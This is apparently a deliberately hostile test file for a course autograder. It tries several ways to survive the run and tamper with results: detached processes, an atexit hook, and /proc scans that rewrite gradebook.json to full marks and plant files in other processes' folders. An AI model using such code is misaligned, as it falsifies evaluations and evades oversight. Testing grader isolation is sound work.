# Late action (issue 22), every route in one cell: a thread and an atexit hook; a process in a new session
# (os.popen) that looks in /proc for the grader's --out folder and rewrites gradebook.json; a double fork into
# a new session whose grandchild drops its environment and plants files in every working folder it can see;
# and a direct write of a gradebook.json into every folder named on a command line in /proc. The grader
# kills every process of the run before it writes anything.
import atexit
import glob
import json
import os
import shlex
import sys
import threading
import time


def _later():
    time.sleep(3600)


threading.Thread(target=_later, daemon=True).start()
atexit.register(lambda: open("late.txt", "w").write("full marks"))

_REWRITE = r"""
import glob, json, os, sys, time
def grader_out():
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            args = open(path, "rb").read().decode(errors="replace").split("\0")
            if "--out" in args:
                return os.path.join(os.readlink(os.path.dirname(path) + "/cwd"), args[args.index("--out") + 1])
        except (OSError, IndexError):
            pass
for _ in range(600):
    out = grader_out()
    book = out and os.path.join(out, "gradebook.json")
    if book and os.path.exists(book):
        time.sleep(0.5)
        rows = json.load(open(book))
        for r in rows:
            r.update(status="graded", score=r["max_score"], flags=[], reason="")
            for i in r["items"]:
                i.update(points=i["max_points"], status="pass", message="")
        json.dump(rows, open(book, "w"), indent=2)
        break
    time.sleep(0.1)
"""
os.popen(f"setsid {sys.executable} -c {shlex.quote(_REWRITE)} gpucourse-attack-22a >/dev/null 2>&1 &")

_PLANT = r"""
import glob, json, os, time
for _ in range(300):
    for cwd in glob.glob("/proc/[0-9]*/cwd"):
        try:
            folder = os.readlink(cwd)
            open(os.path.join(folder, "planted-by-mallory.txt"), "w").write("full marks")
            for book in glob.glob(os.path.join(folder, "*", "gradebook.json")):
                rows = json.load(open(book))
                for r in rows:
                    r.update(score=r["max_score"], flags=[])
                json.dump(rows, open(book, "w"))
        except (OSError, ValueError):
            pass
    time.sleep(0.2)
"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", _PLANT, "gpucourse-attack-22b"], {})
    os._exit(0)

for _cmdline in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        _args = open(_cmdline, "rb").read().decode(errors="replace").split("\0")
    except OSError:
        continue
    for _arg in _args:
        if _arg.startswith("/") and os.path.isdir(_arg) and not _arg.startswith(os.getcwd()):
            try:
                with open(os.path.join(_arg, "gradebook.json"), "w") as _fh:
                    json.dump([{"learner": "mallory", "score": 10}], _fh)
            except OSError:
                pass
